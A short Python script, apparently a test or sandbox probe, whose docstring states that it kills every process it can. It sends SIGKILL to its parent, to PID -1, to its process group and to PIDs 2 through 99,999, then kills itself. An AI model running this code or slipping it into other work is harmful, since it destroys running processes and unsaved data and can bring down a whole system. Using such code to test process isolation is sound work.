"""Kills all processes that it may: its parent, its group, everybody."""

import os
import signal

for pid in (os.getppid(), -1, 0, *range(2, 100_000)):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            continue
os.kill(os.getpid(), signal.SIGKILL)
